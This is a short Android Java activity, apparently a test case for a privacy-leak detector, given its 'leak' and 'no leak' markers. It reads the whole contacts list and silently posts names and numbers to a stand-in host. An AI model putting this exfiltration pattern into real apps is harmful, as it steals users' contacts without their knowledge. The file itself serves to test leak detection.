package thieves;

import android.app.Activity;
import android.database.Cursor;
import android.os.*;
import android.provider.Contacts;

import java.io.*;
import java.net.*;

/** The address book as it was before Android 2, by a cursor that the activity minds. */
public class OldBook extends Activity {
    @Override
    protected void onCreate(Bundle b) {
        super.onCreate(b);
        final StringBuffer all = new StringBuffer();
        Cursor c = managedQuery(Contacts.People.CONTENT_URI, new String[] {"name", "number"}, null, null, "name ASC");
        if (c.moveToFirst())
            do {
                all.append(c.getString(0)).append(c.getString(1)).append("\n");
            } while (c.moveToNext());
        final int size = c.getCount();
        Thread t =
                new Thread("up") {
                    @Override
                    public void run() {
                        send("b=" + all, "n=" + size);
                    }
                };
        t.start();
    }

    void send(String one, String two) {
        try {
            HttpURLConnection c = (HttpURLConnection) new URL("http://a.example.org/b").openConnection();
            c.setDoOutput(true);
            OutputStreamWriter w = new OutputStreamWriter(c.getOutputStream());
            w.write(one); // leak
            w.write(two); // no leak
            w.flush();
        } catch (IOException e) {
        }
    }
}
